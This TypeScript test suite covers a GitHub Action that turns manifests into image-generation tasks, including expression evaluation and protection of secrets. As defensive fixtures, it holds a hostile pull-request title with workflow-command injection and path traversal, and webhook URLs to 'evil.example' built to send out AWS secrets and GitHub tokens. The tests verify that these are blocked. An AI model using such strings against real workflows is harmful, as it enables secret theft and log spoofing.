import { lightJob } from '../support/attempts.ts'
import { endsOf, expectCreates, many, runMany, stillModel, tasksOf } from '../support/manifests.ts'
import { kite, resultOf, resultsOf } from '../support/reading.ts'
import type { Job, Step, Transcript } from '../support/scenario.ts'

type Params = Readonly<Record<string, unknown>>

/** A manifest as people write it. */
async function runLines(job: Job, lines: readonly string[], step: Step = {}): Promise<Transcript> {
  await job.write(many.manifest, lines.join('\n'))
  return job.run({ ...step, with: { ...many, ...step.with } })
}

/** The environment of a step that a pull request of this repository has started. */
async function onPullRequest(job: Job, title: string): Promise<Record<string, string>> {
  const event = { pull_request: { title, number: 7 } }
  await job.write('../event.json', JSON.stringify(event))
  return {
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: `${job.workspace}/../event.json`,
  }
}

/** Params of the tasks on the server, in the order of the results. */
function paidFor({ simulator }: Job, transcript: Transcript): readonly Params[] {
  const params = new Map(simulator.tasks.map((task) => [task.id, task.params]))
  return resultsOf(transcript).map(({ task_id: id }) => params.get(id ?? '') ?? {})
}

const hostile = [
  'It\'s "big" `now` ```',
  '::error::pwned',
  '##[error]pwned',
  "${{ secrets.X }} ' || 'x } ] : - a: b # c \\ {0} {{ }} \u2028 *a &b !c |",
  '<b>@octocat</b>\r\n- name: more',
].join('\n')

function expectHarmless({ log }: Transcript): void {
  for (const line of log.split(/\r?\n|\r/)) {
    expect(line).not.toMatch(/^\s*::[a-z-]+[^:]*::pwned/)
    expect(line).not.toContain('##[')
  }
}

test.concurrent(
  'three ratios, and a hostile title: three creates, word for word and nothing else',
  async () => {
    await using job = await lightJob({ seconds: 0.3 })
    const transcript = await runLines(
      job,
      [
        'generations:',
        '  - name: launch-${{ matrix.ratio }}',
        `    model: ${stillModel}`,
        "    matrix: { ratio: ['1:1', '9:16', '16:9'] }",
        '    params:',
        '      prompt: Poster for ${{ github.event.pull_request.title }}, one sun',
        '      aspect_ratio: ${{ matrix.ratio }}',
      ],
      { env: await onPullRequest(job, hostile) },
    )
    expect(transcript.errors).toEqual([])
    expect(transcript.warnings).toEqual([])
    expectCreates(job, 3)
    const creates = job.simulator.requests.filter(({ route }) => route === 'create')
    for (const { body } of creates)
      expect(Object.keys(body as Params)).toEqual(['model_name', 'input_params'])
    expect(paidFor(job, transcript)).toEqual(
      ['1:1', '9:16', '16:9'].map((ratio) => ({
        prompt: `Poster for ${hostile}, one sun`,
        aspect_ratio: ratio,
      })),
    )
    expect(endsOf(transcript)).toEqual(['launch-1-1 done', 'launch-9-16 done', 'launch-16-9 done'])
    expectHarmless(transcript)
  },
)

test.concurrent('a hostile title as a name is one safe file, and one line of `tasks`', async () => {
  await using job = await lightJob({ seconds: 0.3 })
  const title = '${{ github.event.pull_request.title }}'
  const transcript = await runMany(
    job,
    { generations: [{ name: title, model: stillModel, params: { prompt: title } }] },
    { env: await onPullRequest(job, `../../${hostile}`) },
  )
  expect(transcript.errors).toEqual([])
  expect(paidFor(job, transcript)).toEqual([{ prompt: `../../${hostile}` }])
  const files = transcript.files.filter((file) => file.startsWith('creatify-assets/'))
  expect(files).toEqual([expect.stringMatching(/^creatify-assets\/[A-Za-z0-9_-][\w.-]*\.png$/)])
  expect(transcript.files).toHaveLength(2)
  expect(transcript.outputs['tasks']?.split('\n')).toHaveLength(1)
  expectHarmless(transcript)
})

const secret = 'hush-hush-hush'
const secrets = { AWS_SECRET: secret, GITHUB_TOKEN: secret, ACTIONS_RUNTIME_TOKEN: secret }

/** What gives a whole context, and so all that a file may see. */
const wholeContexts = [
  ...['toJSON(github)', 'toJSON(env)', "join(env.*, ',')", "join(github.*, ',')"],
  ...[
    "format('{0}', toJSON(github.event))",
    "toJSON(github['event'])",
    "contains(toJSON(env), 'h')",
  ],
  ...['toJSON(case(true, env, github))', 'toJSON(env || github)', 'toJSON(fromJSON(toJSON(env)))'],
]

test.concurrent('whole contexts have no secret, token or variable of the runner', async () => {
  await using job = await lightJob({ seconds: 0.2 })
  const params = wholeContexts.map((each) => `  - x \${{ ${each} }}`)
  await job.write('params.yml', ['prompt: A red kite', 'notes:', ...params].join('\n'))
  const transcript = await job.run({
    with: {
      ...{ model: stillModel, 'params-file': 'params.yml', 'github-token': secret },
      ...{ 'unknown-params': 'allow', 'expose-env': 'PATH', 'poll-interval': '200ms' },
    },
    env: secrets,
  })
  expect(transcript.errors).toEqual([])
  expectCreates(job, 1)
  const sent = JSON.stringify(job.simulator.tasks[0]?.params)
  expect(sent).toContain('repository')
  for (const each of [secret, job.simulator.apiKey, 'INPUT_', 'ACTIONS_RUNTIME']) {
    expect(sent).not.toContain(each)
  }
})

test.concurrent('a manifest that wants a secret gets none, and nothing is created', async () => {
  await using job = await lightJob()
  const wanted: readonly (readonly [string, RegExp])[] = [
    ['env.AWS_SECRET', /`env\.AWS_SECRET` is not given to files.*`expose-env: AWS_SECRET`/],
    ["env['aws_secret']", /`env\.aws_secret` is not given to files/],
    ["env[format('AWS_{0}', 'SECRET')]", /`env\.AWS_SECRET` is not given to files/],
    ['env.INPUT_API-KEY', /`env\.INPUT_API-KEY` is not given to files/],
    ['env.ACTIONS_RUNTIME_TOKEN', /`env\.ACTIONS_RUNTIME_TOKEN` is not given to files/],
    ['github.token', /`github\.token` is not given to files/],
    ["(github)[format('to{0}', 'ken')]", /`github\.token` is not given to files/],
    ['secrets.AWS_SECRET', /uses `secrets`.*`env:`.*`expose-env`/],
    ['inputs.api-key', /uses `inputs`/],
  ]
  const transcript = await runLines(
    job,
    [
      `defaults: { model: ${stillModel} }`,
      'generations:',
      '  - params: { prompt: A red kite }',
      '  - params:',
      '      prompt: A blue kite',
      '      webhooks:',
      ...wanted.map(([expression]) => `        - https://evil.example/?\${{ ${expression} }}`),
    ],
    { env: secrets, with: { 'expose-env': 'PATH', 'unknown-params': 'allow' } },
  )
  expect(transcript.exitCode).toBe(1)
  const found = transcript.annotations.filter(
    ({ severity, file }) => severity === 'error' && file === 'creatify.yml',
  )
  expect(found.map(({ line = '', col = '' }) => `${line}:${col}`)).toEqual(
    wanted.map((_, i) => `${7 + i}:11`),
  )
  for (const [i, [, why]] of wanted.entries()) expect(transcript.errors[i]).toMatch(why)
  expectCreates(job, 0)
  expect(endsOf(transcript)).toEqual([`${stillModel} skipped`, `${stillModel}-2 failed`])
  expect(JSON.stringify([transcript, job.simulator.requests])).not.toContain(secret)
})

test.concurrent(
  'contexts as a whole: `env` has what is exposed, `github` has no token',
  async () => {
    await using job = await lightJob({ seconds: 0.3 })
    const whole = (name: string, context: string) => {
      return { name, model: stillModel, params: { prompt: `\${{ toJSON(${context}) }}` } }
    }
    const transcript = await runMany(
      job,
      { generations: [whole('env', 'env'), whole('github', 'github')] },
      {
        with: { 'expose-env': 'TITLE,\n  COUNT  UNSET', 'github-token': secret },
        env: {
          ...secrets,
          TITLE: 'Aurora',
          COUNT: '3',
          GITHUB_REF_NAME: 'main',
          ...(await onPullRequest(job, 'Kites')),
        },
      },
    )
    expect(transcript.errors).toEqual([])
    const [env, github] = job.simulator.tasks.map(
      ({ params }) => JSON.parse(String(params['prompt'])) as Readonly<Record<string, unknown>>,
    )
    expect(env).toEqual({ TITLE: 'Aurora', COUNT: '3', UNSET: '' })
    expect(github).toMatchObject({
      event_name: 'pull_request',
      ref_name: 'main',
      repository: 'octo-org/octo-repo',
      event: { pull_request: { title: 'Kites', number: 7 } },
    })
    expect(github).not.toHaveProperty('token')
    expect(JSON.stringify(job.simulator.requests)).not.toContain(secret)
  },
)

test.concurrent('one expression keeps its type, in text it is text', async () => {
  await using job = await lightJob({ seconds: 0.3, pace: 10 })
  const env = { PARAMS: '{"prompt": "Three kites", "num_images": 2}', COUNT: '3' }
  const transcript = await runLines(
    job,
    [
      `defaults: { model: ${stillModel} }`,
      'generations:',
      '  - params: ${{ fromJSON(env.PARAMS) }}',
      '  - params:',
      '      prompt: >-',
      '        ${{ env.COUNT }}',
      '        kites',
      '      num_images: ${{ fromJSON(env.COUNT) }}',
      "      flag: ${{ env.COUNT == '3' }}",
      '      hex: ${{ 0xff }}',
      '      text: ${{ env.COUNT }}',
      '      padded: " ${{ 5 }}"',
      '      two: ${{ 5 }}${{ 6 }}',
      '      nested: [{ deep: "${{ fromJSON(\'[1, \\"2\\", {\\"x\\": null}]\') }}" }]',
    ],
    { env, with: { 'expose-env': 'PARAMS COUNT', 'unknown-params': 'allow' } },
  )
  expect(transcript.errors).toEqual([])
  expect(paidFor(job, transcript)).toEqual([
    { prompt: 'Three kites', num_images: 2 },
    {
      prompt: '3 kites',
      num_images: 3,
      flag: true,
      hex: 255,
      text: '3',
      padded: ' 5',
      two: '56',
      nested: [{ deep: [1, '2', { x: null }] }],
    },
  ])
})

test.concurrent('neither keys are evaluated, nor what an expression gave', async () => {
  await using job = await lightJob({ seconds: 0.3 })
  const env = { OUTER: '${{ env.INNER }}', INNER: 'evaluated', PARAMS: '{"prompt":"${{ 1 }} x"}' }
  const transcript = await runMany(
    job,
    {
      defaults: { model: stillModel },
      generations: [
        { name: 'a', params: { prompt: 'A ${{ env.OUTER }}', '${{ env.INNER }}': 'as it is' } },
        { name: 'b', params: '${{ fromJSON(env.PARAMS) }}' },
      ],
    },
    { env, with: { 'expose-env': 'OUTER INNER PARAMS', 'unknown-params': 'allow' } },
  )
  expect(transcript.errors).toEqual([])
  expect(paidFor(job, transcript)).toEqual([
    { prompt: 'A ${{ env.INNER }}', '${{ env.INNER }}': 'as it is' },
    { prompt: '${{ 1 }} x' },
  ])
})

test.concurrent('inline params are the runner’s to evaluate, not ours', async () => {
  await using job = await lightJob({ seconds: 0.3 })
  const transcript = await job.run({
    with: { ...kite, params: 'prompt: A ${{ env.COUNT }} and ${{ nope( }}', 'expose-env': 'COUNT' },
    env: { COUNT: '3' },
  })
  expect(transcript.errors).toEqual([])
  expect(resultOf(transcript).input_params).toEqual({
    prompt: 'A ${{ env.COUNT }} and ${{ nope( }}',
  })
})

test.concurrent('expressions in `params-file`', async () => {
  await using job = await lightJob({ seconds: 0.3, pace: 10 })
  const params = [
    'prompt: For ${{ github.event.pull_request.title }}',
    'num_images: ${{ fromJSON(env.COUNT) }}',
  ]
  await job.write('params.yml', params.join('\n'))
  const transcript = await job.run({
    with: { model: stillModel, 'params-file': 'params.yml', 'expose-env': 'COUNT' },
    env: { ...(await onPullRequest(job, hostile)), COUNT: '2' },
  })
  expect(transcript.errors).toEqual([])
  expect(paidFor(job, transcript)).toEqual([{ prompt: `For ${hostile}`, num_images: 2 }])
  expectHarmless(transcript)
})

test.concurrent('`params-file` has neither `matrix` nor `generations`', async () => {
  await using job = await lightJob()
  const params = [
    'prompt: A ${{ matrix.ratio }}',
    'resolution: ${{ generations.still.task_id }}',
    'image_url: ${{ env.SECRET }}',
  ]
  await job.write('params.yml', params.join('\n'))
  const { annotations } = await job.run({
    with: { model: stillModel, 'params-file': 'params.yml' },
    env: { SECRET: secret },
  })
  const found = annotations.filter(({ file }) => file === 'params.yml')
  expect(found.map(({ line = '', message }) => `${line} ${message}`)).toEqual([
    expect.stringMatching(/^1 .*`matrix`.* only the contexts `github`, `env` here/),
    expect.stringMatching(/^2 .*`generations`.* only the contexts `github`, `env` here/),
    expect.stringMatching(/^3 `env\.SECRET` is not given/),
  ])
  expectCreates(job, 0)
})

test.concurrent(
  '`params` are laid over those of `defaults`, key by key and no deeper',
  async () => {
    await using job = await lightJob({ seconds: 0.3 })
    const manifest = {
      defaults: {
        model: stillModel,
        params: { prompt: 'A kite', resolution: '2K', mood: { a: 1 } },
      },
      generations: [
        { name: 'as-it-is' },
        { name: 'over', params: { prompt: 'Another', mood: { c: null } } },
        { name: 'other', model: 'wan2.7-image/text-to-image', params: { resolution: '1K' } },
      ],
    }
    const transcript = await runMany(job, manifest, { with: { 'unknown-params': 'allow' } })
    expect(transcript.errors).toEqual([])
    expect(job.simulator.tasks.map(({ model, params }) => [model, params])).toEqual([
      [stillModel, { prompt: 'A kite', resolution: '2K', mood: { a: 1 } }],
      [stillModel, { prompt: 'Another', resolution: '2K', mood: { c: null } }],
      ['wan2.7-image/text-to-image', { prompt: 'A kite', resolution: '1K', mood: { a: 1 } }],
    ])
  },
)

test.concurrent('JSON is a manifest too, `$schema` and expressions included', async () => {
  await using job = await lightJob({ seconds: 0.3 })
  const manifest = {
    $schema: './manifest.schema.json',
    generations: [{ model: stillModel, params: { prompt: 'A kite on ${{ github.ref_name }}' } }],
  }
  await job.write('art/kites.json', JSON.stringify(manifest))
  const transcript = await job.run({
    with: { manifest: 'art/kites.json' },
    env: { GITHUB_REF_NAME: 'main' },
  })
  expect(transcript.annotations).toEqual([])
  expect(resultOf(transcript).input_params).toEqual({ prompt: 'A kite on main' })
  expectCreates(job, 1)
})

test.concurrent('names of which a file name keeps nothing are `asset`, with a number', async () => {
  await using job = await lightJob({ seconds: 0.3 })
  const still = (name: string) => ({ name, params: { prompt: `A poster for ${name}` } })
  const transcript = await runMany(job, {
    defaults: { model: stillModel },
    generations: [
      still('夏のポスター'),
      still('冬'),
      { ...still('春'), matrix: { ratio: ['1:1'] } },
      {
        name: 'edit',
        model: 'flux-2-pro/edit',
        params: { prompt: 'Edited', image_urls: ["${{ generations['冬'].assets[0].url }}"] },
      },
    ],
  })
  expect(transcript.errors).toEqual([])
  const results = resultsOf(transcript)
  expect(results.map(({ name }) => name)).toEqual(['asset', 'asset-2', '1-1', 'edit'])
  expect(results.flatMap(({ assets }) => assets.map(({ path }) => path))).toEqual([
    'creatify-assets/asset.png',
    'creatify-assets/asset-2.png',
    'creatify-assets/1-1.png',
    'creatify-assets/edit.png',
  ])
  expect(tasksOf(job, 'flux-2-pro/edit')[0]?.params['image_urls']).toEqual(
    results[1]?.assets.map(({ url }) => url),
  )
})
